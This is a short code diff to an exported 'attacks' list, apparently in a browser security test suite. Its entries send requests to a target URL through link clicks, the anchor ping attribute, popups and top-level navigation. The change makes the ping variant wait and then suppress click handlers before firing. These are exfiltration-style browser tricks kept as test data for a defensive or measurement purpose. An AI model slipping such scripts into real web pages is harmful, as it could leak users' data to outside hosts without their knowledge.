@@ -122,7 +122,9 @@ export const attacks: readonly Attack[] = [
     () => `const a = document.createElement('a'); a.href = to; document.body.append(a); a.click();`,
   ),
   script('ping', 'M9', () => {
-    return `const a = document.createElement('a'); a.href = '#'; a.ping = to; document.body.append(a); a.click();`;
+    return `const a = document.createElement('a'); a.href = '#'; a.ping = to; document.body.append(a); say();
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      addEventListener('click', (event) => event.stopImmediatePropagation(), true); a.click();`;
   }),
   script('popup', 'A4', () => `window.open(to);`),
   script('top-navigation', 'A4', () => `say(); top.location = to;`),
